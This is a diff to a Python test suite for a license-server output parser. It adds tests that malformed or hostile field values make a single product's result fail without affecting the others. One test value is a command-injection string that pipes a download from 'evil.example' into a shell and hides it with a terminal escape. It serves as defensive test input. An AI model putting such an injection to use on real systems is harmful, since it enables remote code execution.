@@ -2,6 +2,7 @@ import base64
 import gzip
 import hashlib
 import json
+import re
 from typing import Any
 
 import pytest
@@ -10,6 +11,7 @@ from hypothesis import strategies as st
 
 from seatpool.api.licenseserver import XlcSettings
 from seatpool.servers.command_result import BadOutput, Result, ScriptRefused
+from seatpool.servers.commands import MAX_FENCE, MAX_REVISION, OWNER_PATTERN, ListCommand
 from seatpool.servers.list_parser import UnreadableList
 from seatpool.servers.output_parser import Listed, NotWhole, chunks, read_summary, whole_text
 from seatpool.servers.xlc import XlcAdapter
@@ -75,11 +77,48 @@ def test_any_output_is_a_summary_or_refused(text: str) -> None:
 
 @pytest.mark.parametrize(
     "changes",
-    [{"fence": "4"}, {"result": "done"}, {"owner": "x" * 65}, {"listed": {"length": 10**9, "sha": "0" * 64}}],
+    [
+        {"fence": "4"},
+        {"fence": -1},
+        {"fence": MAX_REVISION},
+        {"fence": 10**40},
+        {"result": "done"},
+        {"owner": "x" * 65},
+        {"owner": "old; curl -s evil.example|sh #\x1b[8m"},
+        {"owner": "old\n"},
+        {"code": None},
+        {"detail": 7},
+        {"listed": {"length": 10**9, "sha": "0" * 64}},
+    ],
 )
-def test_a_summary_with_foreign_values_is_refused(changes: dict[str, Any]) -> None:
-    with pytest.raises(BadOutput, match=r"results\.0"):
-        read_summary(summary(None, **changes))
+def test_a_result_with_a_value_that_cannot_be_is_its_products_failure_and_no_others(changes: dict[str, Any]) -> None:
+    good = {"product": "ansys", "result": "applied", "fence": 4, "owner": "", "code": 0, "detail": "", "listed": None}
+    whole = json.loads(summary(None, **changes))
+    whole["results"].append(good)
+    products = XlcAdapter(XlcSettings()).parse([json.dumps(whole)]).products
+    (field,) = changes
+    assert (products["vew"].result, products["vew"].owner, products["vew"].fence) == (Result.FAILED, "", 0)
+    assert field in products["vew"].detail
+    assert "\x1b" not in products["vew"].detail
+    assert products["ansys"].result is Result.APPLIED
+
+
+@given(
+    owner=st.one_of(st.text(max_size=80), st.from_regex(OWNER_PATTERN, fullmatch=True)),
+    fence=st.one_of(st.integers(), st.integers(0, MAX_FENCE), st.none(), st.text(max_size=5)),
+)
+def test_an_owner_and_a_fence_are_those_of_a_command_or_the_product_failed(owner: str, fence: Any) -> None:
+    product = XlcAdapter(XlcSettings()).parse([summary(None, owner=owner, fence=fence)]).products["vew"]
+    assert product.owner == "" or re.fullmatch(OWNER_PATTERN, product.owner)
+    ListCommand(revision=product.fence + 1, owner="here", products=("vew",))
+    good = (not owner or re.fullmatch(OWNER_PATTERN, owner)) and isinstance(fence, int) and 0 <= fence <= MAX_FENCE
+    assert product.result is (Result.LISTED if good else Result.FAILED)
+
+
+@pytest.mark.parametrize("product", [None, 7, "", "a b", "x" * 64])
+def test_a_result_of_no_product_is_refused(product: Any) -> None:
+    with pytest.raises(BadOutput, match="names no product"):
+        read_summary(summary(None, product=product, fence=-1)).entries()
 
 
 def test_what_the_script_says_before_it_begins_is_passed_on() -> None:
